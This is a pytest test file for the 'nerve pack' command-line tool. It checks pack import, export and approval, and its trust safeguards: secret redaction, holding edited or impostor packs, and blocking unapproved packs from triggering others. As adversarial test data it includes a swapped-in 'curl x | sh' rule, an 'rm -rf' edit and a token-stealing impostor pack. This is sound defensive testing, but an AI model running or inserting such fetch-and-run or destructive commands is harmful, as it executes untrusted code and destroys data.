"""``nerve pack import/export/approve/list`` end to end, through the real command line.

Every command runs as a subprocess with a fresh user's folders (``nerve_env``);
one test answers the interactive questions through a pseudo-terminal.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import pty
import select
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml

from conftest import wait_until
from nerve.packs.loader import load_pack
from test_cli import (  # noqa: F401
    EXIT_INVALID,
    EXIT_OK,
    EXIT_USAGE,
    NERVE,
    StartNerve,
    cli,
    cli_ok,
    events,
    start_nerve,
    wait_for_event,
    wait_for_path,
)

SHARED = """\
# A pack someone shared.
nerve: 1
pack:
  id: shared.tools
  name: Shared tools
  version: 1.2.0
  author: Sam
  description: Touches a marker file and keeps notes.
  inputs:
    marker: {description: The file to touch, type: path}
    greeting: {description: What notes start with, type: text, default: Note}
rules:
  - id: touch
    name: Touch the marker
    when: {event: x.touch}
    do:
      - run: {argv: [touch, "{input.marker}"], wait: true}
  - id: note
    when: {event: x.note}
    do: [{log: "{input.greeting}: {event.text}"}]
"""


def packs_dir(env: dict[str, str]) -> Path:
    return Path(env["XDG_CONFIG_HOME"]) / "nerve" / "packs"


def approvals(env: dict[str, str]) -> dict[str, object]:
    path = Path(env["XDG_CONFIG_HOME"]) / "nerve" / "approvals.yaml"
    data = yaml.safe_load(path.read_text())
    packs: dict[str, object] = data["packs"]
    return packs


def shared(tmp: Path, text: str = SHARED, name: str = "shared.yaml") -> Path:
    path = tmp / name
    path.write_text(text)
    return path


def list_states(env: dict[str, str]) -> dict[str, str]:
    """``nerve pack list`` as {pack id: state}."""
    out = cli_ok(env, "pack", "list")
    return {line.split()[0]: line.split()[1] for line in out.splitlines()}


class Terminal:
    """``nerve ARGS`` answering questions from a pseudo-terminal; its output read as it comes."""

    def __init__(self, env: dict[str, str], *args: object) -> None:
        self.main, side = pty.openpty()
        self.proc = subprocess.Popen(
            [*NERVE, *map(str, args)],
            env=env,
            stdin=side,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        os.close(side)
        self.out = b""

    def wait_for(self, text: str, timeout: float = 20.0) -> None:
        """Read standard output until ``text`` shows (a question asked)."""
        assert self.proc.stdout is not None
        deadline = time.monotonic() + timeout
        while text.encode() not in self.out:
            left = deadline - time.monotonic()
            assert left > 0, f"no {text!r} in {self.out.decode()!r}"
            if select.select([self.proc.stdout], [], [], left)[0]:
                chunk = os.read(self.proc.stdout.fileno(), 4096)
                assert chunk, f"nerve ended without asking {text!r}: {self.out.decode()!r}"
                self.out += chunk

    def answer(self, line: str) -> None:
        os.write(self.main, f"{line}\n".encode())

    def finish(self) -> tuple[int, str, str]:
        """Exit code, all of standard output and standard error."""
        rest, err = self.proc.communicate(timeout=20)
        out, error = (self.out + rest).decode(), err.decode()
        assert "Traceback" not in out + error, out + error
        return self.proc.returncode, out, error


@contextmanager
def terminal(env: dict[str, str], *args: object) -> Iterator[Terminal]:
    term = Terminal(env, *args)
    try:
        yield term
    finally:
        if term.proc.poll() is None:
            term.proc.kill()
            term.proc.communicate()
        os.close(term.main)


def test_import_held_then_approve(nerve_env: dict[str, str], short_tmp: Path) -> None:
    source = shared(short_tmp)
    marker = short_tmp / "marker"

    # Without a TTY an input without a default must come with --set.
    missing = cli(nerve_env, "pack", "import", source)
    assert missing.returncode == EXIT_INVALID
    assert "input 'marker' has no default; give it with --set marker=VALUE" in missing.stderr
    assert not packs_dir(nerve_env).exists()

    proc = cli(nerve_env, "pack", "import", source, "--set", f"marker={marker}")
    assert proc.returncode == EXIT_OK, proc.stderr
    out = proc.stdout
    # The review: header, capabilities in words, rules with their triggers, inputs.
    assert "Pack Shared tools (shared.tools), version 1.2.0 by Sam" in out
    assert "Touches a marker file and keeps notes." in out
    assert "! start the program touch" in out
    assert "touch: Touch the marker (when: event x.touch)" in out
    assert "note (when: event x.note)" in out
    assert f"marker = {marker}  (The file to touch, path)" in out
    assert "greeting = Note  (What notes start with, text)" in out
    assert "held until you approve it (`nerve pack approve shared.tools`)" in out
    assert "Nerve is not running" in out

    installed = packs_dir(nerve_env) / "shared.tools.yaml"
    assert installed.read_text() == SHARED  # as shared, comments and all
    assert (packs_dir(nerve_env) / "starter.yaml").exists()  # the first use: starter too
    # The approvals hold the input values: user-only, in a user-only folder.
    config = Path(nerve_env["XDG_CONFIG_HOME"]) / "nerve"
    assert (config / "approvals.yaml").stat().st_mode & 0o777 == 0o600
    assert config.stat().st_mode & 0o777 == 0o700
    entry = approvals(nerve_env)["shared.tools"]
    assert entry == {
        "file": "shared.tools.yaml",
        "capabilities": [],
        "approved": None,
        "sha256": hashlib.sha256(shared(short_tmp).read_bytes()).hexdigest(),
        "inputs": {"marker": str(marker)},
    }
    assert list_states(nerve_env) == {"nerve.starter": "active", "shared.tools": "held"}
    listing = cli_ok(nerve_env, "pack", "list")
    assert "awaiting approval: it can start the program touch" in listing

    out = cli_ok(nerve_env, "pack", "approve", "shared.tools", "--yes")
    assert "Approved shared.tools: it may start the program touch" in out
    assert list_states(nerve_env)["shared.tools"] == "active"
    entry = approvals(nerve_env)["shared.tools"]
    assert isinstance(entry, dict)
    assert entry["capabilities"] == ["run:touch", "runs-programs"]
    assert entry["inputs"] == {"marker": str(marker)}  # kept


def test_import_with_approve_into_a_running_nerve(
    start_nerve: StartNerve,  # noqa: F811
    nerve_env: dict[str, str],
    short_tmp: Path,
) -> None:
    start_nerve()
    marker = short_tmp / "marker"
    out = cli_ok(
        nerve_env, "pack", "import", shared(short_tmp), "--set", f"marker={marker}", "--approve"
    )
    assert "shared.tools.yaml: active" in out
    assert "The running Nerve reloaded its packs" in out
    status = cli_ok(nerve_env, "status")
    assert "pack shared.tools: 2 rule(s), ok" in status
    cli_ok(nerve_env, "emit", "x.touch")
    wait_until(marker.exists, what="the imported rule to touch its input's file")


def test_a_broken_pack_is_not_imported_and_every_error_is_listed(
    nerve_env: dict[str, str], short_tmp: Path
) -> None:
    broken = shared(
        short_tmp,
        "nerve: 1\npack: {id: shared.broken}\nrules:\n"
        "  - id: a\n    when: {event: x.a}\n"  # no 'do'
        "  - id: b\n    when: {hotkey: ctrl+nothing}\n    do: [{log: b}]\n",
    )
    proc = cli(nerve_env, "pack", "import", broken, "--approve")
    assert proc.returncode == EXIT_INVALID
    errors = [line for line in proc.stderr.splitlines() if line.startswith(str(broken))]
    assert len(errors) == 2, proc.stderr
    assert "rules[0]" in errors[0]
    assert "rules[1].when" in errors[1]
    assert "nothing was imported" in proc.stderr
    assert not packs_dir(nerve_env).exists()

    assert cli(nerve_env, "pack", "import", short_tmp / "nope.yaml").returncode == EXIT_INVALID
    unknown = cli(nerve_env, "pack", "import", shared(short_tmp), "--set", "colour=red")
    assert unknown.returncode == EXIT_INVALID
    assert "--set colour: the pack has no such input" in unknown.stderr


def test_a_different_pack_with_the_same_id_is_replaced_only_when_asked(
    nerve_env: dict[str, str], short_tmp: Path
) -> None:
    first = shared(short_tmp, SHARED.replace("default: Note", "default: Hi"), "v1.yaml")
    cli_ok(nerve_env, "pack", "import", first, "--set", "marker=/tmp/m", "--approve")
    installed = packs_dir(nerve_env) / "shared.tools.yaml"
    assert "default: Hi" in installed.read_text()

    # The same file again: nothing to replace.
    cli_ok(nerve_env, "pack", "import", first, "--set", "marker=/tmp/m", "--approve")

    second = shared(short_tmp)
    refused = cli(nerve_env, "pack", "import", second, "--set", "marker=/tmp/m")
    assert refused.returncode == EXIT_INVALID
    assert "already has another pack with id 'shared.tools'" in refused.stderr
    assert "--replace" in refused.stderr
    assert "default: Hi" in installed.read_text()
    assert list_states(nerve_env)["shared.tools"] == "active"

    cli_ok(nerve_env, "pack", "import", second, "--set", "marker=/tmp/m", "--replace")
    assert installed.read_text() == SHARED
    assert "default: Hi" in installed.with_name("shared.tools.yaml~").read_text()
    # Imported without --approve: held, though the earlier version was approved.
    assert list_states(nerve_env)["shared.tools"] == "held"


def test_interactive_import_asks_for_inputs_and_approval(
    nerve_env: dict[str, str], short_tmp: Path
) -> None:
    marker = short_tmp / "asked"
    main, side = pty.openpty()
    try:
        os.write(main, f"{marker}\ny\n".encode())  # typed ahead: the terminal keeps it
        proc = subprocess.run(
            [*NERVE, "pack", "import", str(shared(short_tmp))],
            env=nerve_env,
            stdin=side,
            capture_output=True,
            text=True,
            timeout=20,
            check=False,
        )
    finally:
        os.close(side)
        os.close(main)
    assert proc.returncode == EXIT_OK, proc.stdout + proc.stderr
    assert "marker (The file to touch, path): " in proc.stdout
    assert "Allow shared.tools to do all of the above? [y/N]" in proc.stdout
    assert "shared.tools.yaml: active" in proc.stdout
    entry = approvals(nerve_env)["shared.tools"]
    assert isinstance(entry, dict)
    assert entry["inputs"] == {"marker": str(marker)}
    assert entry["capabilities"] == ["run:touch", "runs-programs"]


def test_export_writes_a_valid_pack_of_the_chosen_rules(
    nerve_env: dict[str, str], short_tmp: Path
) -> None:
    cli_ok(nerve_env, "pack", "import", shared(short_tmp), "--set", "marker=/tmp/m")

    whole = cli_ok(nerve_env, "pack", "export", "--pack", "shared.tools")
    pack = load_pack(whole.encode(), overrides={"marker": "/tmp/m"})
    assert not pack.errors
    assert [r.id for r in pack.rules] == ["touch", "note"]
    assert (pack.id, pack.version, pack.author) == ("shared.tools", "1.2.0", "Sam")
    assert "/tmp/m" not in whole  # the values chosen at import stay private

    out = short_tmp / "out" / "notes.yaml"
    cli_ok(
        nerve_env,
        "pack",
        "export",
        "--rule",
        "shared.tools/note",
        "--rule",
        "nerve.starter/remind",
        "--id",
        "me.notes",
        "-o",
        out,
    )
    pack = load_pack(out)
    assert not pack.errors
    assert pack.id == "me.notes"
    assert [r.id for r in pack.rules] == ["note", "remind"]
    assert set(pack.inputs) == {"greeting"}  # only what the chosen rules use

    # A bare rule id is found when only one pack has it.
    one = cli_ok(nerve_env, "pack", "export", "--rule", "touch")
    assert [r.id for r in load_pack(one.encode(), overrides={"marker": "/x"}).rules] == ["touch"]

    assert cli(nerve_env, "pack", "export").returncode == EXIT_USAGE
    nope = cli(nerve_env, "pack", "export", "--pack", "shared.tools", "--rule", "nope")
    assert nope.returncode == EXIT_INVALID
    assert "no rule 'nope'" in nope.stderr
    assert cli(nerve_env, "pack", "export", "--pack", "no.such").returncode == EXIT_INVALID


def test_approve_and_list_report_what_they_cannot_do(
    nerve_env: dict[str, str], short_tmp: Path
) -> None:
    assert cli_ok(nerve_env, "pack", "list").startswith("no packs in ")
    assert cli(nerve_env, "pack").returncode == EXIT_USAGE
    missing = cli(nerve_env, "pack", "approve", "no.such")
    assert missing.returncode == EXIT_INVALID
    assert "no pack with id 'no.such'" in missing.stderr

    packs = packs_dir(nerve_env)
    cli_ok(nerve_env, "pack", "import", shared(short_tmp), "--set", "marker=/tmp/m")
    (packs / "broken.yaml").write_text("nerve: 1\npack: {id: my.broken, colour: red}\nrules: []\n")
    assert list_states(nerve_env)["my.broken"] == "broken"
    assert "broken.yaml: not loaded because of 1 error(s)" in cli_ok(nerve_env, "pack", "list")
    # A copy under another name (it sorts first) is a newcomer: the imported
    # file keeps the id, and approving the id approves that file only.
    (packs / "copy.yaml").write_text((packs / "shared.tools.yaml").read_text())
    twice = cli_ok(nerve_env, "pack", "approve", "shared.tools", "--yes")
    assert "copy.yaml is not approved" in twice
    assert approvals(nerve_env)["shared.tools"]["file"] == "shared.tools.yaml"  # type: ignore[index]
    listing = cli_ok(nerve_env, "pack", "list")
    assert "copy.yaml: pack id 'shared.tools' belongs to shared.tools.yaml" in listing


def test_approve_without_a_terminal_needs_yes(nerve_env: dict[str, str], short_tmp: Path) -> None:
    cli_ok(nerve_env, "pack", "import", shared(short_tmp), "--set", "marker=/tmp/m")
    proc = cli(nerve_env, "pack", "approve", "shared.tools")
    assert proc.returncode == EXIT_USAGE
    # What it would allow is shown; how to allow it from a script is said.
    assert "Pack Shared tools (shared.tools), version 1.2.0 by Sam" in proc.stdout
    assert "! start the program touch" in proc.stdout
    assert "nerve pack approve shared.tools --yes" in proc.stderr
    assert "Approved" not in proc.stdout
    assert list_states(nerve_env)["shared.tools"] == "held"
    entry = approvals(nerve_env)["shared.tools"]
    assert isinstance(entry, dict)
    assert entry["capabilities"] == []


def test_interactive_approve_shows_the_review_and_asks(
    nerve_env: dict[str, str], short_tmp: Path
) -> None:
    cli_ok(nerve_env, "pack", "import", shared(short_tmp), "--set", "marker=/tmp/m")
    question = "Allow shared.tools to do all of the above? [y/N] "

    with terminal(nerve_env, "pack", "approve", "shared.tools") as term:
        term.wait_for(question)
        term.answer("")  # the default: no
        code, out, err = term.finish()
    assert code == EXIT_INVALID
    assert "! start the program touch" in out
    assert "touch: Touch the marker (when: event x.touch)" in out
    assert "not approved; shared.tools stays held" in err
    assert list_states(nerve_env)["shared.tools"] == "held"

    with terminal(nerve_env, "pack", "approve", "shared.tools") as term:
        term.wait_for(question)
        term.answer("y")
        code, out, err = term.finish()
    assert code == EXIT_OK, out + err
    assert "Approved shared.tools: it may start the program touch" in out
    assert list_states(nerve_env)["shared.tools"] == "active"


def test_a_pack_changed_while_its_approval_is_asked_is_not_approved(
    nerve_env: dict[str, str], short_tmp: Path
) -> None:
    cli_ok(nerve_env, "pack", "import", shared(short_tmp), "--set", "marker=/tmp/m")
    installed = packs_dir(nerve_env) / "shared.tools.yaml"
    with terminal(nerve_env, "pack", "approve", "shared.tools") as term:
        term.wait_for("[y/N] ")
        # Same capabilities, other program: the user reviewed `touch`, not `rm`.
        installed.write_text(SHARED.replace("argv: [touch,", "argv: [rm, -rf,"))
        term.answer("y")
        code, _, err = term.finish()
    assert code == EXIT_INVALID
    assert "changed while you were reviewing it; nothing was approved" in err
    assert list_states(nerve_env)["shared.tools"] == "held"


def test_interactive_import_installs_the_file_that_was_reviewed(
    nerve_env: dict[str, str], short_tmp: Path
) -> None:
    source = shared(short_tmp)
    marker = short_tmp / "asked"
    with terminal(nerve_env, "pack", "import", source) as term:
        term.wait_for("marker (The file to touch, path): ")
        # Swapped while the user types: now it also runs shell command lines.
        source.write_text(
            SHARED + '  - id: sneaky\n    when: {event: x.s}\n    do: [{shell: "curl x | sh"}]\n'
        )
        term.answer(str(marker))
        term.wait_for("[y/N] ")
        term.answer("y")
        code, out, err = term.finish()
    assert code == EXIT_OK, out + err
    assert "shell" not in out
    installed = packs_dir(nerve_env) / "shared.tools.yaml"
    assert installed.read_text() == SHARED
    entry = approvals(nerve_env)["shared.tools"]
    assert isinstance(entry, dict)
    assert entry["capabilities"] == ["run:touch", "runs-programs"]


def test_without_the_approvals_file_every_pack_needing_approval_is_held(
    nerve_env: dict[str, str], short_tmp: Path
) -> None:
    with_default = SHARED.replace("type: path}", "type: path, default: /tmp/m}")
    cli_ok(nerve_env, "pack", "import", shared(short_tmp, with_default), "--approve")
    assert list_states(nerve_env) == {"nerve.starter": "active", "shared.tools": "active"}
    config = Path(nerve_env["XDG_CONFIG_HOME"]) / "nerve"
    os.replace(config / "approvals.yaml", short_tmp / "moved-away.yaml")
    assert list_states(nerve_env) == {"nerve.starter": "held", "shared.tools": "held"}
    assert "awaiting approval" in cli_ok(nerve_env, "pack", "list")


# ------------------------------------------------ trust, against a real running Nerve

SECRET = "tk-91c0ffee-do-not-record"
SECRETIVE = """\
nerve: 1
pack:
  id: shared.secretive
  inputs:
    token: {type: text, secret: true}
    out: {type: path}
    url: {type: text}
rules:
  - id: use
    when: {event: x.go}
    do:
      - log: "token is {input.token}"
      - notify: {title: "t {input.token}", body: "b={input.token}"}
      - emit: {type: x.leak, data: {t: "{input.token}", deep: {list: ["a{input.token}b"]}}}
      - set: {v: "{input.token}"}
      - run: {argv: [touch, "{input.out}/{input.token}"], wait: true}
      - shell: {command: "echo {input.token}; echo {input.token} >&2", wait: true}
      - http: {url: "{input.url}?t={input.token}", headers: {X-Token: "{input.token}"}}
  - id: program-not-found
    when: {event: x.fail}
    do: [{run: ["/nonexistent/{input.token}"]}]
  - id: program-fails
    when: {event: x.fail}
    do: [{shell: {command: "echo no {input.token} >&2; exit 3", wait: true}}]
  - id: host-fails
    when: {event: x.fail}
    do: [{http: "{input.url}/404?t={input.token}"}]
  - id: next
    when: {event: x.leak}
    do: [{log: "seen {event.t} {event.deep}"}]
"""


class _Echo(http.server.BaseHTTPRequestHandler):
    """Answers with the request's headers (a server that echoes what it was sent)."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Echo.seen.append(str(self.headers.get("X-Token")))
        status = 404 if "/404" in self.path else 200
        body = f"path={self.path} token={self.headers.get('X-Token')}".encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def echo_server() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/echo"
    finally:
        server.shutdown()
        server.server_close()


def _all_bytes(folder: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file())


def test_secret_input_values_are_never_recorded(
    start_nerve: StartNerve,  # noqa: F811
    nerve_env: dict[str, str],
    short_tmp: Path,
    echo_server: str,
) -> None:
    out = short_tmp / "out"
    out.mkdir()
    source = shared(short_tmp, SECRETIVE, "secretive.yaml")
    cli_ok(
        nerve_env, "pack", "import", source, "--approve",
        "--set", f"token={SECRET}", "--set", f"out={out}", "--set", f"url={echo_server}",
    )  # fmt: skip
    nerve = start_nerve()
    cli_ok(nerve_env, "emit", "x.go")
    cli_ok(nerve_env, "emit", "x.fail")

    def runs() -> list[dict[str, Any]]:
        text = cli_ok(nerve_env, "runs", "--json")
        return [json.loads(line) for line in text.splitlines()]

    def done() -> bool:
        ended = {r["rule_id"].split("/")[1]: r["status"] for r in runs() if r["ended"]}
        return (
            len({"use", "program-not-found", "program-fails", "host-fails", "next"} & set(ended))
            == 5
        )

    wait_until(done, timeout=20, what="every run of the pack to end")
    # The actions used the real value.
    assert (out / SECRET).exists()
    assert SECRET in _Echo.seen
    by_rule = {r["rule_id"].split("/")[1]: r for r in runs()}
    assert by_rule["use"]["status"] == "ok", by_rule["use"]
    for failing in ("program-not-found", "program-fails", "host-fails"):
        assert by_rule[failing]["status"] == "failed"
        assert "***" in by_rule[failing]["error"], by_rule[failing]
    trace = cli_ok(nerve_env, "runs", by_rule["use"]["id"], "--json")
    assert "***" in trace
    leak = wait_for_event(nerve_env, "x.leak")
    assert leak[0]["source"] == "rule:shared.secretive/use"  # the pack that produced it
    assert leak[0]["data"] == {"t": "***", "deep": {"list": ["a***b"]}}
    wait_for_event(nerve_env, "rule.failed")
    # Wherever Nerve records or shows something, the value is not.
    shown = [
        cli_ok(nerve_env, "status"),
        cli_ok(nerve_env, "events", "--json"),
        cli_ok(nerve_env, "runs", "--json"),
        trace,
        *(cli_ok(nerve_env, "runs", r["id"], "--json") for r in runs()),
        nerve.output(),
        cli_ok(nerve_env, "pack", "list"),
    ]
    for text in shown:
        assert SECRET not in text
    assert nerve.stop() == 0
    state = _all_bytes(Path(nerve_env["XDG_STATE_HOME"]))  # the log files
    assert b"token is ***" in state
    assert SECRET.encode() not in state
    assert SECRET.encode() not in _all_bytes(Path(nerve_env["XDG_DATA_HOME"]))  # nerve.db, -wal


EMITTER = """\
nerve: 1
pack: {id: shared.emitter}
rules:
  - id: emit
    when: {event: x.go}
    do: DO
"""
DEPUTY = """\
nerve: 1
pack: {id: my.deputy}
rules:
  - id: any-source
    when: {event: job.done}
    do: [{run: [touch, "MARK/any"]}]
  - id: cli-only
    when: {event: {type: job.done, from: [cli]}}
    do: [{run: [touch, "MARK/cli"]}]
  - id: emitter-only
    when: {event: {type: job.done, from: shared.emitter}}
    do: [{run: [touch, "MARK/emitter"]}]
"""
EMITS = [
    "[{emit: job.done}]",
    "[{emit: {type: job.done, data: {path: /tmp}}}]",
    "[{log: hi}, {if: [{var: {nope: 1}}], then: [{log: nay}], else: [{emit: job.done}]}]",
]


@pytest.mark.parametrize("emit", EMITS)
def test_an_unapproved_pack_cannot_make_another_pack_act(
    start_nerve: StartNerve,  # noqa: F811
    nerve_env: dict[str, str],
    short_tmp: Path,
    emit: str,
) -> None:
    """The confused deputy: a pack nobody approved emits an event an approved
    pack turns into a command. Emitting is a capability: the emitter is held."""
    mark = short_tmp / "mark"
    mark.mkdir()
    deputy = shared(short_tmp, DEPUTY.replace("MARK", str(mark)), "deputy.yaml")
    cli_ok(nerve_env, "pack", "import", deputy, "--approve")
    start_nerve()
    packs = packs_dir(nerve_env)
    (packs / "emitter.yaml").write_text(EMITTER.replace("DO", emit))
    wait_until(
        lambda: "held pack shared.emitter" in cli_ok(nerve_env, "status"),
        what="the emitter held",
    )
    status = cli_ok(nerve_env, "status")
    assert "emit job.done events (other packs' rules may react to them)" in status
    cli_ok(nerve_env, "emit", "x.go")
    cli_ok(nerve_env, "emit", "note", "text=after")  # handled after x.go
    wait_until(lambda: "nerve.starter/note" in cli_ok(nerve_env, "runs"), what="the note")
    assert list(mark.iterdir()) == []
    assert events(nerve_env, "--type", "job.done") == []

    # Approved, its events reach the rules that accept them, carrying the pack.
    cli_ok(nerve_env, "pack", "approve", "shared.emitter", "--yes")
    cli_ok(nerve_env, "emit", "x.go")
    wait_for_path(mark / "emitter")
    wait_for_path(mark / "any")
    (event,) = wait_for_event(nerve_env, "job.done")
    assert event["source"] == "rule:shared.emitter/emit"
    assert not (mark / "cli").exists()  # `from: [cli]` ignores a pack's events
    cli_ok(nerve_env, "emit", "job.done")
    wait_for_path(mark / "cli")


TOUCHER = """\
nerve: 1
pack: {id: shared.toucher}
rules:
  - id: touch
    when: {event: x.touch}
    do: [{run: {argv: [PROGRAM, "{event.path}"], wait: true}}]
"""


def test_a_pack_edited_to_run_another_program_is_held_with_a_diff(
    start_nerve: StartNerve,  # noqa: F811
    nerve_env: dict[str, str],
    short_tmp: Path,
) -> None:
    """Approved to run touch, edited to run mkdir: the edit is held until approved
    (the approved version runs meanwhile), and every place that shows held packs
    shows what changed."""
    source = shared(short_tmp, TOUCHER.replace("PROGRAM", "touch"), "toucher.yaml")
    cli_ok(nerve_env, "pack", "import", source, "--approve")
    start_nerve()
    made = short_tmp / "made"
    cli_ok(nerve_env, "emit", "x.touch", f"path={made}")
    wait_for_path(made)
    made.unlink()

    target = packs_dir(nerve_env) / "shared.toucher.yaml"
    target.write_text(TOUCHER.replace("PROGRAM", "mkdir"))
    wait_until(
        lambda: "held pack shared.toucher" in cli_ok(nerve_env, "status"), what="the pack held"
    )
    diff = "~ start the program touch -> start the program mkdir"
    status = cli_ok(nerve_env, "status")
    assert diff in status
    assert "the version you approved keeps running" in status
    assert diff in cli_ok(nerve_env, "pack", "list")
    review = cli(nerve_env, "pack", "approve", "shared.toucher")  # no terminal: shown, not done
    assert review.returncode == EXIT_USAGE
    assert "Changed since you approved it:" in review.stdout
    assert diff in review.stdout
    cli_ok(nerve_env, "emit", "x.touch", f"path={made}")
    cli_ok(nerve_env, "emit", "note", "text=after")
    # The approved version (touch) runs meanwhile; mkdir does not.
    wait_until(made.is_file, what="the approved version to touch its file")
    made.unlink()

    cli_ok(nerve_env, "pack", "approve", "shared.toucher", "--yes")
    cli_ok(nerve_env, "emit", "x.touch", f"path={made}")
    wait_until(made.is_dir, what="the approved program to run")


def test_a_newcomer_with_an_approved_packs_id_is_held_in_a_running_nerve(
    start_nerve: StartNerve,  # noqa: F811
    nerve_env: dict[str, str],
    short_tmp: Path,
) -> None:
    source = shared(short_tmp, SECRETIVE, "secretive.yaml")
    out = short_tmp / "out"
    out.mkdir()
    cli_ok(
        nerve_env, "pack", "import", source, "--approve",
        "--set", f"token={SECRET}", "--set", f"out={out}", "--set", "url=http://127.0.0.1:9/",
    )  # fmt: skip
    nerve = start_nerve()
    packs = packs_dir(nerve_env)
    impostor = (
        "nerve: 1\npack:\n  id: shared.secretive\n  inputs: {token: {default: x}}\n"
        "rules:\n  - id: use\n    when: {event: x.go}\n    do: [{log: 'stolen {input.token}'}]\n"
    )
    (packs / ".shared.secretive.yaml").write_text(impostor)
    (packs / "0.yaml").write_text(impostor)
    wait_until(lambda: "held pack shared.secretive" in cli_ok(nerve_env, "status"), what="held")
    status = cli_ok(nerve_env, "status")
    assert (
        "held pack shared.secretive (0.yaml): pack id 'shared.secretive' belongs to "
        "shared.secretive.yaml (installed first)"
    ) in status
    assert ".shared.secretive.yaml" not in status  # hidden files are not packs
    listing = cli_ok(nerve_env, "pack", "list")
    assert "0.yaml: pack id 'shared.secretive' belongs to shared.secretive.yaml" in listing
    cli_ok(nerve_env, "emit", "x.go")
    wait_for_path(out / SECRET)  # the real pack ran, with its own values
    assert "stolen" not in nerve.output()
    assert SECRET not in nerve.output()


def test_an_update_imported_without_approval_is_held_and_the_approved_version_runs(
    start_nerve: StartNerve,  # noqa: F811
    nerve_env: dict[str, str],
    short_tmp: Path,
) -> None:
    v1 = shared(short_tmp, TOUCHER.replace("PROGRAM", "touch"), "v1.yaml")
    cli_ok(nerve_env, "pack", "import", v1, "--approve")
    start_nerve()
    v2 = shared(short_tmp, TOUCHER.replace("PROGRAM", "mkdir"), "v2.yaml")
    out = cli_ok(nerve_env, "pack", "import", v2, "--replace")
    assert "held until you approve it" in out
    status = cli_ok(nerve_env, "status")
    assert "you imported a new version and have not approved it" in status
    assert "~ start the program touch -> start the program mkdir" in status
    made = short_tmp / "made"
    cli_ok(nerve_env, "emit", "x.touch", f"path={made}")
    wait_until(made.is_file, what="the approved version (touch) to run")
    made.unlink()
    cli_ok(nerve_env, "pack", "approve", "shared.toucher", "--yes")
    assert "pending" not in approvals(nerve_env)["shared.toucher"]  # type: ignore[operator]
    cli_ok(nerve_env, "emit", "x.touch", f"path={made}")
    wait_until(made.is_dir, what="the approved update (mkdir) to run")
